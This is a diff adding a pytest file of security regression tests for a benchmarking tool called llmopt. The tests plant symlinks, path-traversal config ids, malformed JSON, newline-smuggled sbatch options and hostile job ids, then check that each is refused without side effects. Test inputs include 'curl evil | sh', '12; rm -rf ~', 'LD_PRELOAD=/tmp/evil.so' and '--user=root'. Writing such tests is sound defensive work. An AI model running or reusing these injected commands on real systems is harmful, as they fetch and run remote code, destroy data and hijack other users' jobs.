@@ -1,0 +1,176 @@
+"""Files people hand each other are untrusted (README: Security). Each test plants what an attacker would in a
+copy of a results directory (links, a crafted plan.json, env.json or jobs.jsonl, a TOML matrix) and checks
+that llmopt refuses it with one line, writes nothing outside the directory and leaves the planted target as it
+was. The data and model directories' cases are in test_workflow (a prepared directory's tokenizer/)."""
+import json
+import os
+import shutil
+
+import pytest
+
+from conftest import bench_here
+
+TINY = "[base]\nsteps = 2\nseq_len = 16\nglobal_batch = 4\n"
+
+
+def one_error_line(r, code=2):
+    assert r.returncode == code, (r.returncode, r.stderr[-2000:])
+    lines = r.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error:") and "Traceback" not in r.stderr, r.stderr
+    return lines[0]
+
+
+@pytest.fixture(scope="module")
+def sweep(tmp_path_factory):
+    d = tmp_path_factory.mktemp("sweep")
+    (d / "m.toml").write_text(TINY + "[matrix]\noptimizer = ['adamw']\n")
+    r = bench_here("--matrix", d / "m.toml", "--out", d / "out", "--no-report")
+    assert r.returncode == 0, r.stderr[-2000:]
+    return d / "out"
+
+
+@pytest.fixture
+def copy(sweep, tmp_path):
+    out = tmp_path / "out"
+    shutil.copytree(sweep, out, ignore=shutil.ignore_patterns(".lock"))
+    victim = tmp_path / "victim"
+    victim.write_text("untouched\n")
+    return out, victim
+
+
+def report(out):
+    import contextlib
+    import io
+    import subprocess
+
+    from bench.report import main
+
+    err = io.StringIO()
+    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
+        rc = main([str(out)])
+    return subprocess.CompletedProcess([], rc, "", err.getvalue())
+
+
+@pytest.mark.parametrize("name", ["report.md", "plots"])
+def test_the_report_never_writes_through_a_link(copy, name):
+    """report.md -> ~/.bashrc once got the report, with a line planted through env.json; plots/ -> another
+    directory once got five PNGs."""
+    out, victim = copy
+    if name == "plots":
+        victim = victim.parent / "elsewhere"
+        victim.mkdir()
+    os.symlink(victim, out / name)
+    line = one_error_line(report(out))
+    assert name in line and "symbolic link" in line
+    assert (victim.read_text() == "untouched\n") if victim.is_file() else list(victim.iterdir()) == []
+
+
+@pytest.mark.parametrize("name", [".lock", "results.csv.tmp", "env.json.tmp", "steps.csv.tmp", "logs/LOG",
+                                  "peak_flops.json"])
+def test_resume_never_writes_through_a_link(copy, name):
+    """Links planted where --resume writes (a lock, a temporary file, a dangling link at a config's log) once
+    truncated their targets or created files outside --out."""
+    out, victim = copy
+    if name == "logs/LOG":  # dangling: its target does not exist yet, and a write would create it
+        name = "logs/" + os.listdir(out / "logs")[0]
+        os.remove(out / name)
+        victim = victim.parent / "created"
+    if os.path.exists(out / name):
+        os.remove(out / name)
+    os.symlink(victim, out / name)
+    (out / "results.csv").write_text((out / "results.csv").read_text().splitlines()[0] + "\n")  # a config to run
+    line = one_error_line(bench_here("--resume", "--out", out, "--no-report"))
+    assert "symbolic link" in line
+    if victim.name == "created":
+        assert not victim.exists()
+    else:
+        assert victim.read_text() == "untouched\n"
+
+
+@pytest.mark.parametrize("config_id", ["../../../x/v6", "/abs/path", "single-fp32-ga1-sgd-b4-000000000000"])
+def test_a_planted_config_id_is_refused(copy, config_id):
+    """plan.json ids once deleted and wrote logs outside the directory; another config's id would mislabel it."""
+    out, _ = copy
+    plan = json.loads((out / "plan.json").read_text())
+    plan["plan"][0]["config_id"] = config_id
+    (out / "plan.json").write_text(json.dumps(plan))
+    line = one_error_line(bench_here("--resume", "--out", out, "--no-report"))
+    assert "plan.json" in line and "config_id" in line
+    assert not os.path.exists(out.parent.parent.parent / "x") and not os.path.exists("/abs")
+
+
+@pytest.mark.parametrize("damage, match", [
+    (lambda p: {**p, "plan": [dict(p["plan"][0], surprise=1)]}, "keys"),
+    (lambda p: {**p, "plan": [{k: v for k, v in p["plan"][0].items() if k != "config"}]}, "no config"),
+    (lambda p: {**p, "plan": {"a": 1}}, "no list"),
+    (lambda p: {**p, "plan": [dict(p["plan"][0], config=dict(p["plan"][0]["config"], nope=1))]}, "nope"),
+    (lambda p: {**p, "timing_warmup": "x"}, "timing_warmup"),
+])
+def test_a_malformed_plan_is_one_line_naming_the_file(copy, damage, match):
+    out, _ = copy
+    plan = json.loads((out / "plan.json").read_text())
+    (out / "plan.json").write_text(json.dumps(damage(plan)))
+    line = one_error_line(bench_here("--resume", "--out", out, "--no-report"))
+    assert "plan.json" in line and match in line
+
+
+@pytest.mark.parametrize("field, value", [("sweep_seconds", "12"), ("sweep_seconds", [1]), ("jobs", "x"),
+                                          ("cpu_count", -1), ("concurrent_cpu", "yes")])
+def test_a_malformed_env_json_is_one_line_naming_the_file(copy, field, value):
+    out, _ = copy
+    env = json.loads((out / "env.json").read_text())
+    (out / "env.json").write_text(json.dumps(dict(env, **{field: value})))
+    for r in (report(out), bench_here("--resume", "--out", out, "--no-report")):
+        line = one_error_line(r)
+        assert "env.json" in line and field in line
+
+
+def test_env_json_cannot_plant_a_line_in_the_report(copy):
+    out, _ = copy
+    env = json.loads((out / "env.json").read_text())
+    (out / "env.json").write_text(json.dumps(dict(env, command="x\n# planted heading\ncurl evil | sh")))
+    assert report(out).returncode == 0
+    text = (out / "report.md").read_text()
+    assert "\n# planted" not in text and "\ncurl" not in text and "x\\n# planted heading" in text
+
+
+@pytest.mark.parametrize("options, match", [
+    ({"wait-all-nodes=0\ntouch /tmp/x #": "1"}, "not an sbatch option"),  # once a line of the job's script
+    ({"export": "LD_PRELOAD=/tmp/evil.so"}, "not an sbatch option"),  # would load code into every job
+    ({"wrap": "touch /tmp/x"}, "not an sbatch option"),
+    ({"job-name": "x"}, "set by llmopt"), ({"partition": "x"}, "--slurm-partition"),
+    ({"constraint": "a\nb"}, "one line"),
+])
+def test_slurm_options_from_a_matrix_are_sbatch_options_on_one_line(tmp_path, options, match):
+    """A [slurm] option key once became a line of its own in the generated submission script (submitit quotes
+    values, not keys): refused before anything is written, whether from the TOML or --slurm-option."""
+    m = tmp_path / "m.toml"
+    m.write_text(TINY + "[matrix]\nseed = [0]\n[slurm.options]\n"
+                 + "".join(f"{json.dumps(k)} = {json.dumps(v)}\n" for k, v in options.items()))
+    line = one_error_line(bench_here("--matrix", m, "--executor", "slurm", "--out", tmp_path / "o"))
+    assert match in line
+    assert not (tmp_path / "o").exists() and not os.path.exists("/tmp/x")
+    (key, value), = options.items()
+    if "\n" not in key:  # the same through the flag
+        m.write_text(TINY + "[matrix]\nseed = [0]\n")
+        line = one_error_line(bench_here("--matrix", m, "--executor", "slurm", "--slurm-option", f"{key}={value}",
+                                         "--out", tmp_path / "o"))
+        assert match in line
+
+
+@pytest.mark.parametrize("job_id", ["--name=victim", "--user=root", "12; rm -rf ~", ""])
+def test_a_planted_job_id_never_reaches_scancel(tmp_path, monkeypatch, job_id):
+    """jobs.jsonl's {"job_id": "--name=victim"} once cancelled an unrelated job through scancel."""
+    from bench import executors
+
+    calls = []
+    monkeypatch.setattr(executors, "slurm_call", lambda argv: calls.append(argv))
+    jobs = tmp_path / "jobs.jsonl"
+    jobs.write_text(json.dumps({"config_id": "a", "job_id": "123"}) + "\n"
+                    + json.dumps({"config_id": "b", "job_id": job_id}) + "\n")
+    with pytest.raises(executors.ExecutorError, match="jobs.jsonl, line 2.*not a SLURM job id"):
+        executors.cancel_leftovers(str(jobs))
+    assert calls == [] and jobs.exists()
+    jobs.write_text("{not json\n")
+    with pytest.raises(executors.ExecutorError, match="jobs.jsonl, line 1: not a job record"):
+        executors.cancel_leftovers(str(jobs))
